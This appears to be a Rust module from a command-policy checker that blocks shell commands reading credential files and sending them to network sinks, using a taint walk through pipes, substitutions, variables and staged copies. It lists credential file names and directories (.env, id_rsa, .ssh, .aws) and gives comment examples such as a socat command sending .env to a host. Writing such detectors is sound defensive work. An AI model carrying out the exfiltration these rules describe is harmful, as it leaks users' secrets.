//! `credential-exfiltration`: a credential file read and sent to a network
//! sink within one command.
//!
//! A taint walk over the units: a unit that reads a credential file carries
//! it; so does every unit its output reaches (pipe, `$(…)`, `<(…)`), every
//! variable it is assigned to and every unit expanding that variable, and
//! every file it writes (a staged copy, which later readers then carry). A
//! network sink that carries a credential, or whose own upload option names
//! one, is a hard deny. URL text is never a read: `curl https://x/.env` and
//! `curl -d template=.env.local` send no file.

use std::collections::HashMap;

use crate::policy::credentials::is_credential_path;
use crate::shell::{Flow, Sink, Unit, Word};

use super::effects::Effect;
use super::paths::{Resolved, components, glob_component, is_within};
use super::{Analysis, Category, HardDeny, net};

/// How a credential reached a unit.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum How {
    /// The unit itself reads the file.
    Read,
    /// It reads a copy staged earlier in the command.
    StagedFile,
    Pipe,
    Substitution,
    Variable,
}

#[derive(Debug, Clone)]
struct Carry {
    credential: String,
    how: How,
}

/// Names a glob in a credential-looking place is tested against.
const CANDIDATE_NAMES: &[&str] = &[
    ".env",
    ".env.local",
    ".env.production",
    ".env.development.local",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    "id_dsa",
    "credentials",
    "config",
    "config.json",
    ".npmrc",
    ".netrc",
    ".pgpass",
    ".git-credentials",
    "auth.json",
    ".credentials.json",
    "adapter.token",
    "operator.token",
    "hmac.key",
];

/// Directories whose recursive read takes credentials along.
const CREDENTIAL_DIRS: &[&str] = &[".ssh", ".aws", ".kube", ".docker", ".gnupg", ".codex"];

/// A file written by a unit that carried a credential.
struct Staged {
    path: String,
    /// The credential it holds a copy of.
    credential: String,
}

/// How `r` holds a credential; for a staged copy, also the original.
fn is_credential(
    r: &Resolved,
    recursive: bool,
    staged: &[Staged],
) -> Option<(How, Option<String>)> {
    if let Some(copy) = staged.iter().find(|s| is_within(&r.path, &s.path)) {
        return Some((How::StagedFile, Some(copy.credential.clone())));
    }
    let parts = components(&r.path);
    let last = parts.last().copied().unwrap_or("");
    if !r.glob {
        let hit = is_credential_path(&r.path) || (recursive && CREDENTIAL_DIRS.contains(&last));
        return hit.then_some((How::Read, None));
    }
    let dir = parts
        .get(..parts.len().saturating_sub(1))
        .map(|d| d.join("/"))
        .unwrap_or_default();
    let hit = CANDIDATE_NAMES
        .iter()
        .any(|name| glob_component(last, name) && is_credential_path(&format!("/{dir}/{name}")))
        || (recursive && CREDENTIAL_DIRS.iter().any(|d| glob_component(last, d)));
    hit.then_some((How::Read, None))
}

/// Commands that print file names rather than file contents.
fn prints_names_only(unit: &Unit) -> bool {
    matches!(
        unit.name(),
        Some("echo" | "printf" | "ls" | "find" | "stat")
    )
}

/// The credential a unit reads itself, if any.
fn direct_read(a: &Analysis<'_>, i: usize, unit: &Unit, staged: &[Staged]) -> Option<Carry> {
    if prints_names_only(unit) {
        return None;
    }
    for touch in a.effects_of(i) {
        let (effect, word) = (touch.effect, &touch.word);
        let Effect::Read { recursive } = effect else {
            continue;
        };
        if word.display().contains("://") {
            continue;
        }
        for r in &touch.targets {
            if let Some((how, original)) = is_credential(r, recursive, staged) {
                return Some(Carry {
                    credential: original.unwrap_or_else(|| word.display()),
                    how,
                });
            }
        }
    }
    // `socat FILE:.env TCP:host:port`
    if unit.name() == Some("socat") {
        for word in unit.args() {
            let text = word.display();
            let Some((kind, rest)) = text.split_once(':') else {
                continue;
            };
            if matches!(
                kind.to_ascii_uppercase().as_str(),
                "FILE" | "OPEN" | "GOPEN"
            ) {
                let path = rest.split(',').next().unwrap_or("");
                let cwds = a.cwds.get(i).map(Vec::as_slice).unwrap_or(&[]);
                for r in
                    super::paths::resolve(&Word::literal_text(path), &a.env.home, cwds, &a.vars)
                {
                    if let Some((how, original)) = is_credential(&r, false, staged) {
                        return Some(Carry {
                            credential: original.unwrap_or_else(|| path.to_owned()),
                            how,
                        });
                    }
                }
            }
        }
    }
    None
}

fn words_of(unit: &Unit) -> impl Iterator<Item = &Word> {
    unit.argv
        .iter()
        .chain(unit.redirects.iter().map(|r| &r.target))
        .chain(unit.assignments.iter().map(|x| &x.value))
}

/// A sink that really leaves the machine (`scp` only with a remote operand).
fn is_network_sink(unit: &Unit) -> bool {
    match unit.name() {
        Some("scp" | "rsync" | "sftp") => unit.args().iter().any(|w| {
            let text = w.display();
            !text.starts_with('-')
                && text
                    .split_once(':')
                    .is_some_and(|(host, _)| !host.is_empty() && !host.contains('/'))
        }),
        _ => net::is_sink(unit),
    }
}

#[expect(
    clippy::too_many_lines,
    reason = "predates the 80-line limit; split by issue 8"
)]
pub(crate) fn check(a: &Analysis<'_>) -> Option<HardDeny> {
    let units = &a.script.units;
    if !units.iter().any(is_network_sink) {
        return None;
    }
    let mut carried: Vec<Option<Carry>> = vec![None; units.len()];
    let mut staged: Vec<Staged> = Vec::new();
    let mut tainted: HashMap<String, String> = HashMap::new();
    // Each round adds at least one carrier, variable or staged file, so the
    // loop ends; the bound is a guard, and the walk is monotone.
    for _ in 0..=units.len() + a.script.bindings.len() + 1 {
        let mut changed = false;
        for (i, unit) in units.iter().enumerate() {
            if carried.get(i).is_some_and(Option::is_some) {
                continue;
            }
            let mut found = direct_read(a, i, unit, &staged);
            if found.is_none() {
                for &source in &unit.sources {
                    let Some(Some(from)) = carried.get(source) else {
                        continue;
                    };
                    let flow = units
                        .get(source)
                        .and_then(|s| {
                            s.sinks.iter().find_map(|k| match k {
                                Sink::Unit { index, flow } if *index == i => Some(*flow),
                                Sink::Unit { .. } | Sink::Variable(_) => None,
                            })
                        })
                        .unwrap_or(Flow::Pipe);
                    let how = match (from.how, flow) {
                        (How::StagedFile | How::Variable, _) => from.how,
                        (_, Flow::Pipe) => How::Pipe,
                        (_, Flow::Substitution | Flow::ProcessSubstitution) => How::Substitution,
                    };
                    found = Some(Carry {
                        credential: from.credential.clone(),
                        how,
                    });
                    break;
                }
            }
            if found.is_none() {
                found = words_of(unit)
                    .flat_map(Word::variables)
                    .find_map(|v| tainted.get(v))
                    .map(|credential| Carry {
                        credential: credential.clone(),
                        how: How::Variable,
                    });
            }
            if let Some(carry) = found {
                if let Some(slot) = carried.get_mut(i) {
                    *slot = Some(carry);
                }
                changed = true;
            }
        }
        for (i, unit) in units.iter().enumerate() {
            let Some(Some(carry)) = carried.get(i) else {
                continue;
            };
            let mut names: Vec<&str> = unit
                .sinks
                .iter()
                .filter_map(|sink| match sink {
                    Sink::Variable(name) => Some(name.as_str()),
                    Sink::Unit { .. } => None,
                })
                .collect();
            // `sudo K=$(cat key) …`: an assignment word whose substitution
            // carries the secret taints the name (whichever shell sets it).
            if carry.how == How::Substitution {
                names.extend(
                    unit.assignments
                        .iter()
                        .filter(|x| x.value.has_substitution())
                        .map(|x| x.name.as_str()),
                );
            }
            for name in names {
                if !tainted.contains_key(name) {
                    tainted.insert(name.to_owned(), carry.credential.clone());
                    changed = true;
                }
            }
            for touch in a.effects_of(i) {
                let effect = touch.effect;
                if effect != Effect::Write {
                    continue;
                }
                for r in &touch.targets {
                    if !r.glob && r.path != "/dev/null" && !staged.iter().any(|s| s.path == r.path)
                    {
                        staged.push(Staged {
                            path: r.path.clone(),
                            credential: carry.credential.clone(),
                        });
                        changed = true;
                    }
                }
            }
        }
        for binding in &a.script.bindings {
            let name = &binding.assignment.name;
            if tainted.contains_key(name) {
                continue;
            }
            if let Some(credential) = binding
                .assignment
                .value
                .variables()
                .find_map(|v| tainted.get(v))
                .cloned()
            {
                tainted.insert(name.clone(), credential);
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }
    for (i, unit) in units.iter().enumerate() {
        if !is_network_sink(unit) {
            continue;
        }
        let sink_name = unit.name().unwrap_or("a socket");
        for (file, option) in net::uploaded_files(unit) {
            for r in a.resolve(i, &file) {
                if let Some((how, original)) = is_credential(&r, false, &staged) {
                    let (rule, what) = match original {
                        Some(original) if how == How::StagedFile => (
                            "credential-exfiltration/staged-file",
                            format!("a staged copy of the credential file `{original}`"),
                        ),
                        _ => (
                            "credential-exfiltration/upload-option",
                            "a credential file".to_owned(),
                        ),
                    };
                    return Some(HardDeny {
                        category: Category::CredentialExfiltration,
                        rule_id: rule,
                        rationale: format!(
                            "`{sink_name} {option}` uploads `{}`, {what}",
                            file.display()
                        ),
                    });
                }
            }
        }
        let Some(Some(carry)) = carried.get(i) else {
            continue;
        };
        let (rule, how) = match carry.how {
            How::Read => ("credential-exfiltration/sink-reads-file", "reads"),
            How::StagedFile => (
                "credential-exfiltration/staged-file",
                "sends a staged copy of",
            ),
            How::Pipe => (
                "credential-exfiltration/pipe-to-sink",
                "receives through a pipe",
            ),
            How::Substitution => (
                "credential-exfiltration/substitution",
                "receives through a substitution",
            ),
            How::Variable => (
                "credential-exfiltration/staged-variable",
                "receives through a shell variable",
            ),
        };
        return Some(HardDeny {
            category: Category::CredentialExfiltration,
            rule_id: rule,
            rationale: format!(
                "network sink `{sink_name}` {how} the credential file `{}`",
                carry.credential
            ),
        });
    }
    None
}
